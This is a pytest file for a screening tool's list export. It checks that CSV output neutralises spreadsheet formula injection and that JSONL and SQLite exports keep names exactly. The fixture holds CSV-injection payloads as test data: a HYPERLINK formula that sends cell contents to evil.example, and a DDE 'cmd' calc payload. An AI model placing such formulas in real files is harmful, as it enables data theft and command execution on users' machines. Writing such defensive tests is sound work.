"""`lists export` neutralises spreadsheet formulas in its CSV, as batch outputs do."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from screener.cli import cli
from screener.db.store import Store
from screener.lists import catalog

# A user's own curated list whose names and addresses start like formulas.
EVIL = """\
source: {id: evil, name: Formula test list}
entities:
  - id: hyperlink
    name: '=HYPERLINK("http://evil.example/?d="&A1,"Hikvision")'
    country: cn
    aliases: ['+cmd|'' /C calc''!A0', '@SUM(1+1)*cmd']
    addresses: ["\\t=1+1 Danfeng Road, Hangzhou"]
  - id: plain
    name: Zhejiang Dahua Technology Co., Ltd.
    country: cn
    aliases: [Dahua Technology]
    addresses: ["\\r1199 Bin'an Road, Hangzhou"]
  - id: minus
    name: -1+2 Holdings
    country: cn
"""


@pytest.fixture
def evil_store(tmp_path: Path) -> Store:
    path = tmp_path / "evil.yaml"
    path.write_text(EVIL, encoding="utf-8")
    store = Store.open(tmp_path / "s.db")
    catalog.import_file(store, path, "curated", "evil")
    yield store
    store.close()


def read_rows(path: Path) -> dict[str, dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return {r["id"]: r for r in csv.DictReader(f)}


def test_simple_export_prefixes_formula_cells(evil_store: Store, tmp_path: Path) -> None:
    out = tmp_path / "targets.simple.csv"
    assert catalog.export(evil_store, out, "simple") == 3
    rows = read_rows(out)
    evil, plain = rows["evil:hyperlink"], rows["evil:plain"]
    assert evil["name"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Hikvision")'
    # Only a cell's start counts: the second alias is inside the cell.
    assert evil["aliases"] == "'+cmd|' /C calc'!A0;@SUM(1+1)*cmd"
    assert evil["addresses"] == "'\t=1+1 Danfeng Road, Hangzhou"
    assert rows["evil:minus"]["name"] == "'-1+2 Holdings"
    assert plain["name"] == "Zhejiang Dahua Technology Co., Ltd."
    assert plain["aliases"] == "Dahua Technology"
    assert plain["addresses"] == "'\r1199 Bin'an Road, Hangzhou"
    assert all(
        not v.startswith(("=", "+", "-", "@", "\t", "\r"))
        for r in rows.values()
        for v in r.values()
    )


def test_jsonl_export_keeps_the_names_exactly(evil_store: Store, tmp_path: Path) -> None:
    out = tmp_path / "evil.jsonl"
    catalog.export(evil_store, out, "jsonl")
    records = {r["id"]: r for r in map(json.loads, out.read_text("utf-8").splitlines())}
    assert records["hyperlink"]["name"].startswith("=HYPERLINK(")


def test_cli_export(evil_store: Store, tmp_path: Path) -> None:
    out = tmp_path / "evil.csv"
    result = CliRunner().invoke(
        cli,
        [
            "--db",
            str(evil_store.path),
            "lists",
            "export",
            "--source",
            "evil",
            "--format",
            "simple",
            "-o",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    assert read_rows(out)["evil:hyperlink"]["name"].startswith("'=HYPERLINK(")


def test_listing_and_exporting_lists_needs_no_pandas() -> None:
    code = (
        "import sys, screener.lists.catalog, screener.db.runs; "
        "print(sorted(m for m in ('pandas', 'openpyxl') if m in sys.modules))"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
    ).stdout
    assert out.strip() == "[]"


def test_sqlite_export_is_a_database_for_datasette(evil_store: Store, tmp_path: Path) -> None:
    """``--format sqlite``: the entities with their names and listings in tables that point
    to them, names searchable, written by sqlite-utils."""
    from sqlite_utils import Database

    out = tmp_path / "lists.db"
    n = catalog.export(evil_store, out, "sqlite")
    assert n == 3
    db = Database(out)
    try:
        plain = db.table("entities").get("evil:plain")
        assert plain["name"] == "Zhejiang Dahua Technology Co., Ltd."
        assert json.loads(plain["countries"]) == ["cn"]
        found = {(r["entity"], r["name"]) for r in db.table("names").search("Dahua")}
        assert found == {
            ("evil:plain", "Zhejiang Dahua Technology Co., Ltd."),
            ("evil:plain", "Dahua Technology"),
        }
        assert {(fk.column, fk.other_table) for fk in db.table("names").foreign_keys} == {
            ("entity", "entities")
        }
        [source] = db.table("sources").rows
        assert (source["id"], source["name"]) == ("evil", "Formula test list")
        # text is kept exactly: a database is not a spreadsheet
        assert db.table("entities").get("evil:hyperlink")["name"].startswith("=HYPERLINK(")
    finally:
        db.close()
    args = ["lists", "export", "--source", "evil", "--format", "sqlite", "-o", str(out)]
    result = CliRunner().invoke(cli, ["--db", str(evil_store.path), *args])
    assert result.exit_code == 0, result.output
    assert "wrote 3 entities" in result.output
